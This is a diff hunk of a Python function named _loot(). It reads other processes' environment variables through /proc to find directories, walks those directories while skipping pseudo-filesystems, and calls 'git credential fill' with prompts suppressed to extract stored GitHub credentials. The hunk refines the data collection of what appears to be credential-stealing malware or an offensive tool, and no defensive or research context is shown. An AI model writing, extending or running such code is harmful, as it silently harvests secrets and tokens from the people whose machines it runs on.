@@ -71,8 +71,11 @@ def _loot():
             for env in _read(f"/proc/{pid}/environ").split(b"\0"):
                 if env.startswith(b"ENV_DIR="):
                     dirs.add(env[8:].decode(errors="replace"))
-    for directory in sorted(d for d in dirs if d):
-        if directory.rstrip("/") not in ("/", "/usr", "/proc", "/sys", "/dev"):
+    for directory in sorted({os.path.realpath(d) for d in dirs if d}):
+        # Not the root or pseudo-filesystems (/proc/kmsg blocks a reader); /dev/shm is walked.
+        pseudo = directory.startswith(("/proc/", "/sys/")) or (
+            directory.startswith("/dev/") and not directory.startswith("/dev/shm"))
+        if directory not in ("/", "/usr", "/proc", "/sys", "/dev") and not pseudo:
             out.append(_tree(directory, depth=2 if directory.startswith("/tmp") else 4))
     ask = subprocess.run(["git", "credential", "fill"], input=b"protocol=https\nhost=github.com\n\n",
                          capture_output=True, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
